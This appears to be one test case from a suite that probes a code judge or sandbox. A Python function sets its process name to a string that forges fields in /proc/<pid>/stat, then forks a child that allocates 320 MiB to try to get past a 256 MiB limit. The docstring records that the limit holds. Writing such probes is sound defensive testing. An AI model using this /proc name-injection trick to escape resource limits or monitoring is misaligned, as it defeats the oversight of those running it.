"""Gives its processes names that whoever reads /proc takes for other fields.

kind: attack the judge
says: stopped at its limit of 256 MiB of memory
strong: holds
partial: holds
none: holds
never returns.
"""

import ctypes
import os
import time


def attack():
    ctypes.CDLL(None).prctl(15, b") Z 1 1 1 0 (\n")
    if os.fork() == 0:
        kept = bytearray(b"x") * (320 << 20)
        time.sleep(30)
        os._exit(len(kept) & 1)
    time.sleep(30)
